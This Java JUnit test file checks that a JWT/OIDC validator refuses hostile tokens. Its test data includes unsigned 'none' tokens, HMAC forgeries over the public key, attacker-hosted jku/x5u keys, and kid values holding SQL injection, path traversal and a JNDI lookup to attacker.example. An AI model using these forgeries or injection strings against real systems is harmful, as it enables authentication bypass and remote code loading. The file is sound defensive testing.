package io.kstlib.auth.oidc.jwt;

import static io.kstlib.auth.oidc.Reports.assertRefused;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kstlib.auth.api.validation.TokenKind;
import io.kstlib.auth.api.validation.ValidationReport;
import io.kstlib.auth.api.validation.ValidationReport.Verdict;
import io.kstlib.auth.core.jwt.Base64Url;
import io.kstlib.auth.oidc.Idp;
import io.kstlib.auth.testkit.server.SigningKey;
import io.kstlib.json.Json;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that an attacker made to get past the validator (RFC 8725, security rule 1). Each is refused at the step that is responsible. */
class HostileTokensTest {

    private static final String DECODE = "decode_structure";
    private static final String EXTRACT = "extract_public_key";
    private static final String SIGNATURE = "verify_signature";

    @RegisterExtension
    private final Idp idp = new Idp();

    private final SigningKey key = SigningKey.rsa();

    private String signedWith(Consumer<Map<String, Object>> change) {
        Map<String, Object> header = key.header();
        change.accept(header);
        return key.sign(header, idp.claims());
    }

    private static String text(String json) {
        return Base64Url.encode(json.getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", " none", "none ", "NoNe\u0000", ""})
    void refusesUnsignedTokens(String none) { // RFC 8725 sections 2.1 and 3.2
        String unsigned =
                Base64Url.encode(Json.write(Map.of("alg", none))) + "." + Base64Url.encode(Json.write(idp.claims()));

        assertRefused(idp.check(unsigned + "."), DECODE, "alg");
        assertRefused(idp.check(unsigned + ".c2ln"), DECODE, "alg");
        assertEquals(0, idp.requests(Idp.DISCOVERY));
    }

    @ParameterizedTest
    @ValueSource(strings = {"HS256", "HS384", "HS512", "hs256"})
    void refusesHmacOverThePublicKey(String algorithm) throws GeneralSecurityException { // RFC 8725 section 2.1
        String input = Base64Url.encode(Json.write(key.using(algorithm).header())) + "."
                + Base64Url.encode(Json.write(idp.claims()));
        String pem = String.valueOf(
                idp.check(idp.idToken(idp.claims())).facts().toMap().get("public_key_pem"));
        String mac = "HmacSHA" + (algorithm.equals("hs256") ? "256" : algorithm.substring(2));
        for (byte[] secret :
                List.of(pem.getBytes(StandardCharsets.US_ASCII), key.publicKey().getEncoded())) {
            Mac hmac = Mac.getInstance(mac);
            hmac.init(new SecretKeySpec(secret, mac));
            String forged = input + "." + Base64Url.encode(hmac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));

            assertRefused(idp.check(forged), DECODE, "alg");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"RS1", "RSA-OAEP", "dir", "rs256", "RS256 ", "A128GCM", "RS257"})
    void refusesAlgorithmsThatAreNotSignatures(String algorithm) { // RFC 8725 section 3.1
        assertRefused(idp.check(signedWith(header -> header.put("alg", algorithm))), DECODE, "alg");
    }

    @Test
    void refusesAHeaderWithoutAlgorithm() { // RFC 7515 section 4.1.1
        assertRefused(idp.check(signedWith(header -> header.remove("alg"))), DECODE, "alg");
        assertRefused(idp.check(signedWith(header -> header.put("alg", List.of("RS256")))), DECODE, "alg");
        assertRefused(idp.check(signedWith(header -> header.put("alg", 256))), DECODE, "alg");
    }

    @Test
    void doesNotUseAKeyThatTheTokenBringsAlong() { // security rule 4, RFC 8725 section 3.10
        SigningKey attacker = SigningKey.of("attacker", "RS256");
        Map<String, Object> header = attacker.header();
        header.put("jwk", attacker.jwk());
        header.put("jku", idp.url("/attacker/keys"));
        header.put("x5u", idp.url("/attacker/chain.pem"));
        header.put("x5c", List.of(Base64Url.encode(attacker.publicKey().getEncoded())));

        ValidationReport unknownKey = idp.check(attacker.sign(header, idp.claims()));
        header.put("kid", key.keyId());
        ValidationReport knownKey = idp.check(attacker.sign(header, idp.claims()));
        header.remove("kid");
        ValidationReport noKey = idp.check(attacker.sign(header, idp.claims()));

        assertRefused(unknownKey, EXTRACT, "kid");
        assertRefused(knownKey, SIGNATURE, "signature");
        assertRefused(noKey, SIGNATURE, "signature");
        assertEquals(
                List.of("jku", "jwk", "x5u", "x5c"),
                knownKey.steps().get(0).details().get("ignored_headers"));
        assertTrue(idp.wireMock().getAllServeEvents().stream()
                .noneMatch(event -> event.getRequest().getUrl().startsWith("/attacker")));
    }

    @Test
    void saysThatKeysInTheHeaderAreNotUsedWhenTheTokenIsGood() { // some providers send jku with every token
        ValidationReport report = idp.check(signedWith(header -> header.put("jku", idp.url("/elsewhere"))));

        assertTrue(report.isValid());
        assertTrue(report.steps().get(0).message().contains("not used (jku"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "' OR '1'='1",
                "rsa-1\u0000",
                " rsa-1",
                "RSA-1",
                "http://attacker.example/key",
                "\u202e1-asr",
                "",
                "${jndi:ldap://attacker.example}"
            })
    void treatsKidAsANameAndNothingElse(String keyId) { // RFC 8725 section 3.10
        var failed = assertRefused(idp.check(signedWith(header -> header.put("kid", keyId))), EXTRACT, "kid");

        assertTrue(failed.message().chars().allMatch(c -> c >= 0x20 && c < 0x7F), failed.message());
    }

    @Test
    void refusesAKidThatIsNoText() { // RFC 7515 section 4.1.4
        assertRefused(idp.check(signedWith(header -> header.put("kid", List.of("rsa-1")))), DECODE, "kid");
        assertRefused(idp.check(signedWith(header -> header.put("kid", null))), DECODE, "kid");
    }

    @Test
    void refusesCriticalExtensions() { // RFC 7515 section 4.1.11
        assertRefused(idp.check(signedWith(header -> header.put("crit", List.of("exp")))), DECODE, "crit");
        assertRefused(idp.check(signedWith(header -> header.put("crit", List.of()))), DECODE, "crit");
        assertRefused(
                idp.check(signedWith(header -> {
                    header.put("crit", List.of("b64"));
                    header.put("b64", false);
                })),
                DECODE,
                "crit");
        assertRefused(idp.check(signedWith(header -> header.put("b64", false))), DECODE, "b64"); // RFC 7797 section 7
    }

    @ParameterizedTest
    @ValueSource(strings = {"at+jwt", "application/at+jwt", "AT+JWT", "logout+jwt", "secevent+jwt", "dpop+jwt"})
    void refusesOtherJwtsInPlaceOfAnIdToken(String type) { // RFC 8725 sections 2.8 and 3.11
        assertRefused(idp.check(signedWith(header -> header.put("typ", type))), DECODE, "typ");
    }

    @Test
    void refusesTokensThatAreTooLarge() {
        assertRefused(idp.check(idp.idToken(idp.claimsWith("pad", "x".repeat(70_000)))), DECODE, "token");
        assertRefused(idp.check("x".repeat(10_000_000)), DECODE, "token");
    }

    @Test
    void refusesDuplicateMembers() { // RFC 7515 section 4, RFC 7519 section 4
        String claims = new String(Json.write(idp.claims()), StandardCharsets.UTF_8);
        String twice = claims.substring(0, claims.length() - 1) + ",\"sub\":\"admin\"}";

        assertRefused(
                idp.check(key.signParts(text("{\"alg\":\"RS256\",\"alg\":\"none\"}"), text(claims))), DECODE, "header");
        assertRefused(
                idp.check(key.signParts(text("{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}"), text(twice))),
                DECODE,
                "payload");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[]",
                "\"text\"",
                "null",
                "",
                "{\"alg\":\"RS256\"} {}",
                "{\"alg\":\"RS256\"",
                "{alg:'RS256'}",
                "{\"alg\":\"RS256\",}",
                "{\"alg\":\"RS256\"/**/}",
                "{\"alg\":NaN}"
            })
    void refusesHeadersThatAreNoJsonObject(String header) {
        ValidationReport report = idp.check(key.signParts(text(header), Base64Url.encode(Json.write(idp.claims()))));

        assertFalse(report.isValid());
        assertEquals(DECODE, report.failedStep().orElseThrow().name());
    }

    @Test
    void refusesPayloadsThatAreNoJsonObject() {
        String header = Base64Url.encode(Json.write(key.header()));
        byte[] notUtf8 = {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'};

        for (String payload : List.of("", "[]", "{}{}", "plain text", "{\"sub\":\"a\u0000b\"}")) {
            assertRefused(idp.check(key.signParts(header, text(payload))), DECODE, "payload");
        }
        assertRefused(idp.check(key.signParts(header, Base64Url.encode(notUtf8))), DECODE, "payload");
    }

    @Test
    void refusesDeepNesting() {
        String deep = "{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}";
        String header = Base64Url.encode(Json.write(key.header()));

        assertRefused(idp.check(key.signParts(header, text(deep))), DECODE, "payload");
        assertRefused(
                idp.check(key.signParts(
                        text("{\"alg\":\"RS256\",\"a\":" + "{\"a\":".repeat(1_000) + "1" + "}".repeat(1_001)),
                        text("{}"))),
                DECODE,
                "header");
    }

    @Test
    void refusesBase64UrlThatIsNotCanonical() { // RFC 7515 section 2, RFC 4648 sections 3.2, 3.3 and 3.5
        String good = idp.idToken(idp.claims());
        String[] parts = good.split("\\.", -1);
        String last = parts[2].substring(0, parts[2].length() - 1);
        char canonical = parts[2].charAt(parts[2].length() - 1);
        char stray = (char) (canonical + 1); // a careless decoder reads the same 256 bytes

        assertEquals(256, Base64.getUrlDecoder().decode(last + stray).length);
        assertRefused(idp.check(parts[0] + "." + parts[1] + "." + last + stray), DECODE, "signature");
        assertRefused(idp.check(good + "="), DECODE, "signature");
        assertRefused(idp.check(good + "=="), DECODE, "signature");
        assertRefused(idp.check(good + "\n"), DECODE, "signature");
        assertRefused(idp.check(good + " "), DECODE, "signature");
        assertRefused(idp.check(parts[0] + "." + parts[1] + "." + parts[2] + "+/"), DECODE, "signature");
        assertRefused(idp.check(parts[0] + "=." + parts[1] + "." + parts[2]), DECODE, "header");
        assertRefused(idp.check(parts[0] + "." + parts[1] + "\u00e9." + parts[2]), DECODE, "payload");
    }

    @Test
    void showsClaimsOfTheTokenAsTextThatSteersNoTerminal() {
        String escape = "https://evil.example/\u001b[2J\u202e\u0430\uD83D\uDE00";

        var failed = assertRefused(idp.check(idp.idToken(idp.claimsWith("iss", escape))), "discover_issuer", "iss");

        assertTrue(
                failed.message().contains("https://evil.example/\\u{001b}[2J\\u{202e}\\u{0430}\\u{1f600}"),
                failed.message());
    }

    @Test
    void refusesIssuersThatLookLikeTheRightOne() {
        for (String issuer : List.of(
                idp.issuer() + "/",
                idp.issuer() + " ",
                idp.issuer().replace("main", "MAIN"),
                idp.issuer().replace("main", "m\u0430in"),
                idp.issuer().replace("127.0.0.1", "localhost"),
                idp.issuer() + "\u0000",
                idp.issuer() + "?",
                idp.issuer().replace("http", "HTTP"))) {
            assertRefused(idp.check(idp.idToken(idp.claimsWith("iss", issuer))), "discover_issuer", "iss");
        }
        assertEquals(0, idp.requests(Idp.DISCOVERY), "a token of somebody else costs no request");
    }

    @Test
    void namesEncryptedTokens() { // RFC 7516 section 7.1
        String header = Base64Url.encode(Json.write(Map.of("alg", "RSA-OAEP-256", "enc", "A256GCM")));

        var failed = assertRefused(idp.check(header + ".a2V5.aXY.dGV4dA.dGFn"), DECODE, "token");

        assertTrue(failed.message().contains("encrypted"));
        assertEquals(Verdict.NOT_VERIFIABLE, failed.failure().orElseThrow().verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"gho_16C7e42F292c6912E7710c838347Ae178B4a", "ya29.a0AfH6SMBx.yz", "a.b.c", "x", ".", ".."})
    void namesOpaqueTokens(String token) {
        var failed = assertRefused(idp.check(idp.client(), token, TokenKind.ACCESS_TOKEN), DECODE, "token");

        assertTrue(failed.message().contains("opaque"), failed.message());
        assertEquals(Verdict.NOT_VERIFIABLE, failed.failure().orElseThrow().verdict());
        assertFalse(failed.message().contains("gho_"), "the token is a secret");
    }

    @Test
    void tellsHalfATokenFromAnOpaqueOne() {
        String good = idp.idToken(idp.claims());

        var failed = assertRefused(idp.check(good.substring(0, good.lastIndexOf('.'))), DECODE, "token");

        assertTrue(failed.message().contains("2 parts"), failed.message());
        assertEquals(Verdict.INVALID, failed.failure().orElseThrow().verdict());
    }

    @Test
    void namesMicrosoftGraphTokens() {
        Map<String, Object> header = new LinkedHashMap<>(key.header());
        header.put("nonce", "Vw0dZpQ");
        Map<String, Object> claims = idp.claimsWith("aud", "00000003-0000-0000-c000-000000000000");

        ValidationReport report = idp.check(idp.client(), key.sign(header, claims), TokenKind.ACCESS_TOKEN);

        var failed = assertRefused(report, DECODE, "nonce");
        assertTrue(failed.message().contains("meant for Microsoft Graph only"), failed.message());
        assertEquals(Verdict.NOT_VERIFIABLE, failed.failure().orElseThrow().verdict());
        assertEquals("00000003-0000-0000-c000-000000000000", report.payload().get("aud"));
    }

    @Test
    void keepsTheTokenOutOfTheReport() { // security rule 6
        String good = idp.idToken(idp.claims());
        String signature = good.substring(good.lastIndexOf('.') + 1);

        for (String token : List.of(good, good.replace(".", "x."), good + "!")) {
            ValidationReport report = idp.check(token);
            String everything = report.toMap() + report.toString();
            assertFalse(everything.contains(signature), everything);
        }
    }
}
